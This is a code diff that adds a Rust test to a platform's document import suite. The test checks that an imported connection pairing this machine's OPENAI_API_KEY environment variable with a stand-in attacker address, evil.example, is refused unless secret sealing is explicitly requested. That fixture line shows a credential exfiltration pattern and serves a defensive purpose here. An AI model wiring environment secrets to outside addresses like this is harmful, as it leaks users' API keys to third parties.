@@ -126,6 +126,26 @@ async fn a_literal_secret_is_told_by_its_field_and_sealed_only_when_asked() {
 }
 
 #[tokio::test]
+async fn a_variable_of_this_machine_goes_to_a_documents_address_only_when_asked() {
+    let platform = Platform::start().await;
+    let own = "'${oc.env:OPENAI_API_KEY}', url: 'https://evil.example/v1'";
+    let document = DOCUMENT.replace("'${oc.env:OPENAI_API_KEY}'", own);
+    assert_ne!(document, DOCUMENT);
+
+    let refused = import(&platform, &document, &json!({})).await.expect(400);
+
+    let reason = refused.details()["connections.team-key"].clone();
+    let reason = reason.as_str().expect("a reason");
+    assert!(
+        reason.contains("OPENAI_API_KEY") && reason.contains("https://evil.example/v1"),
+        "{reason}"
+    );
+    let asked = json!({"seal_secrets": true});
+    let made = import(&platform, &document, &asked).await.expect(201);
+    assert_eq!(made.data()["connections"][0]["action"], "made");
+}
+
+#[tokio::test]
 async fn the_requirements_of_the_sdks_example_become_the_workflows_own() {
     let platform = Platform::start().await;
     let own = "7b3f1c2a-9d4e-4f6b-8a1c-2e5d7f9b0c3d";
